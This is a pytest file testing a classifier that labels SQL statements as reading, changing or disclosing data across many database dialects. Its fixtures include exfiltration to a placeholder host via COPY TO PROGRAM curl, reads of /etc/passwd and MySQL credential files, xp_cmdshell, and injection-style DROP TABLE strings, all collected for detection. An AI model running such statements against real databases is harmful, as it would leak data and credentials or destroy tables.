"""Statements as databases take them, and the effect each one has."""

from __future__ import annotations

import time

import pytest

from intent.evidence import sql
from intent.evidence.base import Leaf
from intent.evidence.reading import Budget, heaviest, weight
from intent.vocabulary import Effect

CASES = {
    Effect.READ: [
        "SELECT * FROM users",
        "select name, email from customers where id = 7",
        "SELECT o.id, c.name FROM orders o JOIN customers c USING (customer_id) WHERE o.placed_at >= now() - interval '7 days' LIMIT 50;",
        "SELECT count(*) FROM invoices",
        "SELECT a, sum(b) FROM t GROUP BY a HAVING sum(b) > 10 ORDER BY 2 DESC",
        "WITH recent AS (SELECT * FROM logins WHERE at > '2025-01-01') SELECT user_id, count(*) FROM recent GROUP BY 1",
        "WITH RECURSIVE t(n) AS (SELECT id FROM nodes WHERE parent IS NULL UNION ALL SELECT n.id FROM nodes n JOIN t ON n.parent = t.n) SELECT * FROM t",
        "SELECT * FROM a UNION ALL SELECT * FROM b",
        "(SELECT a FROM b) INTERSECT (SELECT a FROM c)",
        "SELECT * FROM users FOR UPDATE",
        "SELECT id FROM jobs ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED",
        "SELECT * FROM t FOR UPDATE OF t NOWAIT",
        "EXPLAIN SELECT * FROM t",
        "EXPLAIN DELETE FROM t WHERE a = 1",
        "EXPLAIN ANALYZE SELECT * FROM t",
        "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM t JOIN u USING (id)",
        "EXPLAIN QUERY PLAN SELECT * FROM t WHERE a = 1",
        "SHOW TABLES",
        "SHOW CREATE TABLE orders",
        "SHOW PROCESSLIST;",
        "SHOW search_path",
        "DESCRIBE orders",
        "DESC TABLE analytics.public.events",
        "PRAGMA table_info(users)",
        "PRAGMA table_info('users')",
        "PRAGMA journal_mode",
        "PRAGMA foreign_key_list(orders)",
        "LOCK TABLE accounts IN SHARE MODE",
        "SELECT version()",
        "SELECT current_user, current_database()",
        "SELECT @@version",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT LOAD_FILE('/etc/mysql/debian.cnf')",
        "SELECT pg_size_pretty(pg_database_size('shop'))",
        "SELECT TOP 10 * FROM dbo.Orders WITH (NOLOCK) ORDER BY CreatedAt DESC",
        "SELECT [Order Id], [Total] FROM [dbo].[Order Details]",
        "SELECT `name` FROM `proj.dataset.table` WHERE _PARTITIONDATE = '2025-05-01'",
        "SELECT * FROM read_csv('data/sales.csv')",
        "FROM sales SELECT region, total",
        "SELECT json_extract(payload, '$.a') FROM events",
        "SELECT payload->>'email' FROM events WHERE payload @> '{\"type\": \"signup\"}'",
        "SELECT * FROM t WHERE note = 'please DELETE FROM users; DROP TABLE x'",
        "SELECT 'insert into t values (1)' AS example, id FROM t",
        "SELECT updated_at, deleted, created_by FROM audit_log WHERE action = 'update'",
        "SELECT \"delete\" FROM \"drop\"",
        "-- delete everything? no, only look\nSELECT id FROM t",
        "/* DROP TABLE t */ SELECT id FROM t",
        "SET NOCOUNT ON; SELECT * FROM dbo.Users",
        "USE loyalty; SHOW TABLES; SELECT * FROM points LIMIT 5",
        "BEGIN; SELECT * FROM t; COMMIT;",
        "EXEC sp_help 'dbo.Orders'",
        "EXEC sp_who2",
        "COPY (SELECT * FROM t) TO STDOUT WITH CSV",
        ".tables",
        ".schema orders",
        "\\dt public.*",
        "SELECT DISTINCT ON (user_id) user_id, at FROM events ORDER BY user_id, at DESC",
        "SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))",
        "SELECT a, row_number() OVER (PARTITION BY b ORDER BY c) FROM t QUALIFY row_number() OVER (PARTITION BY b ORDER BY c) = 1",
        "SELECT * FROM t TABLESAMPLE SYSTEM (1)",
        "SELECT * EXCEPT (secret) FROM ds.t",
        "VALUES (1, 'a'), (2, 'b')",
        "TABLE users",
        "SELECT name INTO @n FROM users WHERE id = 1",
        "SELECT lower(name), st_distance(geom, st_point(1, 2)) FROM places",
        "SHOW GRANTS FOR 'app'@'%'",
    ],
    Effect.NONE: ["SELECT 1+1", "SELECT 1", "select 'x' || 'y'", "SELECT date '2025-03-31' - date '2024-12-15' AS days", "SELECT now()", "SELECT round(sqrt(2)::numeric, 3)"],
    Effect.CHANGE: [
        "INSERT INTO t VALUES (1, 2)",
        "insert into t (a) select a from u",
        "INSERT OR REPLACE INTO t VALUES (1)",
        "INSERT IGNORE INTO t SET a = 1",
        "REPLACE INTO t VALUES (1)",
        "UPDATE t SET a = 1",
        "UPDATE t SET a = 1 FROM u WHERE u.id = t.id RETURNING *",
        "DELETE FROM t",
        "DELETE t FROM t JOIN u ON t.id = u.id WHERE u.x = 1",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)",
        "CREATE TABLE t (id int primary key)",
        "CREATE TABLE t AS SELECT * FROM u",
        "CREATE OR REPLACE VIEW v AS SELECT 1",
        "CREATE INDEX CONCURRENTLY i ON t (a)",
        "CREATE TEMP TABLE x AS SELECT 1",
        "DROP TABLE IF EXISTS t CASCADE",
        "DROP DATABASE shop",
        "ALTER TABLE t ADD COLUMN c int",
        "ALTER USER bob WITH PASSWORD 'x'",
        "TRUNCATE t",
        "TRUNCATE TABLE a, b RESTART IDENTITY",
        "GRANT SELECT ON t TO bob",
        "REVOKE ALL ON t FROM bob",
        "CALL close_month(5)",
        "EXEC dbo.usp_CloseMonth @m = 5",
        "EXEC xp_cmdshell 'dir'",
        "EXECUTE IMMEDIATE 'DROP TABLE t'",
        "DO $$ BEGIN DELETE FROM t; END $$",
        "VACUUM FULL t",
        "ATTACH DATABASE 'x.db' AS y",
        "PRAGMA user_version = 14",
        "PRAGMA journal_mode=WAL",
        "SET GLOBAL max_connections = 500",
        "SET PASSWORD FOR 'a'@'%' = 'b'",
        "SELECT * INTO backup_t FROM t",
        "SELECT a, b INTO TEMP scratch FROM t",
        "SELECT * INTO #tmp FROM t",
        "WITH gone AS (DELETE FROM sessions RETURNING id) SELECT count(*) FROM gone",
        "WITH x AS (SELECT 1 AS a) INSERT INTO t SELECT a FROM x",
        "WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x",
        "EXPLAIN ANALYZE DELETE FROM t",
        "EXPLAIN (ANALYZE) UPDATE t SET a = 1",
        "EXPLAIN ANALYZE INSERT INTO t VALUES (1)",
        "SELECT pg_terminate_backend(123)",
        "SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT \"pg_terminate_backend\"(1)",
        "SELECT setval('s', 1)",
        "SELECT nextval('orders_id_seq')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT dblink_exec('host=x', 'DELETE FROM t')",
        "SELECT load_extension('x.so')",
        "SELECT 1; DROP TABLE t",
        "SELECT 1;; ; DELETE FROM t;",
        "SELECT id FROM t; -- ok\nDELETE FROM t",
        "SELECT 'a\\'; DROP TABLE t; --'",
        "SELECT /*! 1; DROP TABLE t */",
        "SELECT 1 /*!50000 ; DELETE FROM t */",
        "/*!DROP TABLE t*/",
        "/* /* */ DROP TABLE t; -- */ */",
        "SELECT 1 --1; \n; DROP TABLE t",
        "SELECT * FROM t DELETE FROM u",
        "DECLARE @c int = (SELECT COUNT(*) FROM dbo.A);\nIF @c > 0 DELETE FROM dbo.A;\nPRINT @c;",
        "BEGIN TRAN; UPDATE t SET a = 1; COMMIT",
        "BEGIN TRANSACTION DELETE FROM t",
        "IF EXISTS (SELECT 1 FROM t) DROP TABLE t",
        "LOAD DATA INFILE '/x.csv' INTO TABLE t",
        "COPY t FROM '/srv/x.csv' WITH (FORMAT csv)",
        "COPY INTO t FROM @stage/x.csv",
        "BULK INSERT t FROM 'c:/x.csv'",
        "REFRESH MATERIALIZED VIEW v",
        "KILL 55",
        "RESTORE DATABASE x FROM DISK = 'y'",
        "COMMENT ON TABLE t IS 'x'",
        "REINDEX TABLE t",
        "RENAME TABLE a TO b",
        "```sql\nDROP TABLE t\n```",
        ".import data.csv t",
        "\\copy t from 'x.csv' csv",
        "UNDROP TABLE t",
        "SELECT 1\nGO\nDROP TABLE t\nGO",
        "ALTER WAREHOUSE w SUSPEND",
        "DROP\tTABLE/**/t",
        "dElEtE fRoM t",
    ],
    Effect.DISCLOSE: [
        "COPY t TO '/tmp/x.csv'",
        "COPY (SELECT email FROM users) TO PROGRAM 'curl -T - https://x.example'",
        "COPY INTO @my_stage/out FROM t",
        "COPY INTO 's3://bucket/x' FROM t",
        "SELECT * FROM users INTO OUTFILE '/tmp/u.txt'",
        "SELECT u.login INTO OUTFILE '/var/lib/mysql-files/u.txt' FIELDS TERMINATED BY ';' FROM users u",
        "SELECT a INTO DUMPFILE '/x' FROM t",
        "SELECT a FROM t /*! INTO OUTFILE '/x' */",
        "EXPORT DATA OPTIONS(uri='gs://b/*.csv', format='CSV') AS SELECT * FROM t",
        "UNLOAD ('SELECT * FROM t') TO 's3://b/p_' IAM_ROLE default",
        "BACKUP DATABASE shop TO DISK = 'x.bak'",
        "VACUUM INTO '/mnt/x.db'",
        "VACUUM main INTO 'x'",
        "SELECT lo_export(oid, '/var/www/x') FROM photos",
        "EXEC msdb.dbo.sp_send_dbmail @recipients = 'a@x.example', @body = 'b'",
        "CALL SYSTEM$SEND_EMAIL('i', 'a@x.example', 's', 'b')",
        "SELECT http_post('https://x.example', 'body')",
        "PUT file:///tmp/x.csv @stage",
        "\\copy users to 'users.csv' csv",
        ".backup /var/backups/x.sqlite",
        ".output /srv/x.html\nSELECT * FROM players;",
    ],
    None: [
        "SELECT FROM WHERE",
        "SELECT (((",
        "SELECT delete_user(5)",
        "SELECT refund_order(id) FROM orders",
        "SELECT my_own_function(5)",
        "FLARB THE QUUX",
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        "SELECT * FROM t WHERE a = 'unterminated",
        "SELECT " + "x, " * 3000 + "y FROM t",
        "hello there",
    ],
}  # fmt: skip


@pytest.mark.parametrize(("text", "effect"), [(text, effect) for effect, texts in CASES.items() for text in texts])
def test_a_text_has_the_effect_of_its_heaviest_statement(text, effect):
    assert heaviest(f.effect for f in sql.findings(text)) is effect


DIALECT_CASES = [
    # postgres
    ("EXPLAIN (VERBOSE, COSTS OFF) INSERT INTO t SELECT * FROM u", Effect.READ),
    ("EXPLAIN (FORMAT JSON, ANALYZE) DELETE FROM t", Effect.CHANGE),
    ("EXPLAIN ANALYZE VERBOSE MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", Effect.CHANGE),
    ("EXPLAIN ANALYZE", None),
    ("EXPLAIN DELETE FROM a DELETE FROM b", Effect.CHANGE),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", Effect.CHANGE),
    ("LOCK TABLE a IN ACCESS EXCLUSIVE MODE; DELETE FROM a", Effect.CHANGE),
    ("SELECT name INTO STRICT backup FROM users", None),
    ("SELECT id FROM t WHERE a = ANY($1) AND b = $2", Effect.READ),
    ("SHOW SHOW", Effect.READ),
    # mysql
    ("EXPLAIN FORMAT=JSON UPDATE t SET a = 1", Effect.READ),
    ("DESCRIBE DELETE FROM t", Effect.READ),
    ("SHOW CREATE PROCEDURE close_month", Effect.READ),
    ("SELECT a, b INTO @x, @y FROM t LIMIT 1", Effect.READ),
    ("SELECT SLEEP(1) INTO @x; SELECT 1 INTO OUTFILE '/tmp/x'", Effect.DISCLOSE),
    ("LOCK TABLES a READ, b READ", Effect.READ),
    ("HANDLER t READ FIRST", Effect.READ),
    # sqlite
    ("EXPLAIN QUERY PLAN DELETE FROM t", Effect.READ),
    ("PRAGMA table_info(t); VACUUM aux INTO 'copy.db'", Effect.DISCLOSE),
    ("VACUUM", Effect.CHANGE),
    ("SELECT :name, @id FROM t", Effect.READ),
    # tsql
    ("SET @n = 5; EXEC sys.sp_helptext 'dbo.v'", Effect.READ),
    ("EXEC sp_who2 DELETE FROM t", Effect.CHANGE),
    ("EXEC sp_help 'a'; EXEC sp_configure 'x', 1", Effect.CHANGE),
    ("SHOW TABLES DROP TABLE t", Effect.CHANGE),
    ("SELECT TOP 1 @n = name FROM dbo.Users", Effect.READ),
    ("EXEC sp_executesql N'SELECT 1'", Effect.CHANGE),
    # bigquery
    ("SELECT * FROM `p.d.t` FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 HOUR)", Effect.READ),
    ("EXPORT DATA OPTIONS (uri = 'gs://b/x-*.csv') AS (SELECT 1)", Effect.DISCLOSE),
    ("CALL `p.d`.refresh_totals(DATE '2025-01-01')", Effect.CHANGE),
    ("MERGE d.t USING d.s ON FALSE WHEN NOT MATCHED THEN INSERT ROW", Effect.CHANGE),
    # snowflake
    ("SHOW CREATE VIEW v; DESC TABLE t", Effect.READ),
    ("LIST @my_stage", Effect.READ),
    ("CALL SYSTEM$SEND_SNOWFLAKE_NOTIFICATION('x', 'y')", Effect.DISCLOSE),
    ("SELECT SYSTEM$CANCEL_QUERY('01a2')", Effect.CHANGE),
    ("SELECT $1, $2 FROM @my_stage/x.csv", Effect.READ),
    # oracle
    ("EXPLAIN PLAN FOR DELETE FROM t", Effect.READ),
    ("SELECT level FROM dual CONNECT BY level <= 3", Effect.READ),
    ("BEGIN UTL_MAIL.SEND('a@x.example'); END", None),
    ("SELECT e.name FROM emp e, dept d WHERE e.dept = d.id(+)", Effect.READ),
    # duckdb
    ("EXPLAIN ANALYZE COPY (SELECT 1) TO 'x.csv'", Effect.DISCLOSE),
    ("EXPLAIN ANALYZE FROM t", Effect.READ),
    ("SELECT * FROM 'data/*.parquet' LIMIT 3", Effect.READ),
    ("COPY t TO 's3://b/t.parquet' (FORMAT parquet)", Effect.DISCLOSE),
    ("INSTALL httpfs", Effect.CHANGE),
]  # fmt: skip


@pytest.mark.parametrize(("text", "effect"), DIALECT_CASES)
def test_what_one_database_means_is_read_so(text, effect):
    assert heaviest(f.effect for f in sql.findings(text)) is effect


@pytest.mark.parametrize(
    "text",
    [
        "SELECT " + "(" * 2000 + "1" + ")" * 2000,
        "SELECT " + "a->" * 1300,
        "SELECT * FROM (" * 270,
        "WITH " + "a AS (SELECT 1), " * 240 + "b AS (SELECT 1) SELECT * FROM b, c, d(",
        "```\n" + "\n" * 60_000 + "x",
        "/*!" * 1300,
        "DELETE FROM a WHERE b " * 180,
    ],
    ids=["brackets", "arrows", "subqueries", "ctes", "fence", "comments", "deletes"],
)
def test_a_text_made_to_take_long_is_doubt_or_worse_and_quick(text):
    begun = time.process_time()
    effects = [f.effect for f in sql.findings(text)]
    assert weight(heaviest(effects)) > weight(Effect.READ)
    assert time.process_time() - begun < 1


def test_many_texts_together_are_doubt_once_the_budget_of_the_call_is_spent():
    budget = Budget()
    effects = [heaviest(f.effect for f in sql.findings(f"SELECT a FROM t{i}", budget)) for i in range(1000)]
    assert effects[:100] == [Effect.READ] * 100
    assert effects[-1] is None
    assert sql.findings("SELECT a FROM t999")[0].effect is Effect.READ


def test_a_fence_is_opened_and_a_text_about_fences_is_not():
    assert [f.effect for f in sql.findings("```sql\nSELECT a FROM t\n```")] == [Effect.READ]
    assert [f.effect for f in sql.findings("``` and more\nSELECT a FROM t\n```")] == [None]


def test_a_long_change_is_still_a_change_and_doubt():
    effects = [f.effect for f in sql.findings("INSERT INTO t VALUES " + "(1, 'x')," * 2000 + "(1, 'x')")]
    assert effects == [Effect.CHANGE, None]


PROSE = [
    "select a good hotel and update me",
    "Select a hotel from the list and book it",
    "update me on the news",
    "delete old photos from my phone how to",
    "drop table manners for kids",
    "create a table of the best hotels",
    "show me the tables near the window",
    "with friends as guests",
    "explain how to insert into the slot",
    "grant applications for schools",
    "call me maybe",
    "set the table for four",
    "insert coin to continue",
    "merge in turn traffic law",
    "describe the weather",
    "copy that to me",
    "execute order 66",
    "use of force",
    "Update on database vendors",
    "SELECT committee members",
]


@pytest.mark.parametrize("text", PROSE)
def test_prose_is_not_sql(text):
    leaf = Leaf(("query",), text)
    assert not sql.claims(leaf, "web search searches the web query")


@pytest.mark.parametrize("text", PROSE)
def test_prose_in_a_database_of_documents_is_not_a_change(text):
    leaf = Leaf(("query",), text)
    words = "search docs full text search in our knowledge database query"
    assert not sql.claims(leaf, words) or weight(heaviest(f.effect for f in sql.findings(text))) <= weight(Effect.READ)


@pytest.mark.parametrize(
    ("key", "text", "words"),
    [
        ("sql", "SELECT 1", "run"),
        ("sql", "flarb", "run"),
        ("query", "DROP TABLE t", "anything"),
        ("query", "drop table t;", "postgres query"),
        ("q", "SELECT name FROM users WHERE id = 4", "q"),
        ("statement", "whatever", "mysql console statement"),
        ("text", ".tables", "sqlite3 shell"),
        ("whatever", "DELETE FROM users WHERE id = 3", "whatever"),
        ("query", "/*! DROP TABLE t */", "mysql query"),
        ("Query", "  -- hi\n select * from t", "database query"),
    ],
)
def test_sql_is_claimed(key, text, words):
    assert sql.claims(Leaf((key,), text), words)
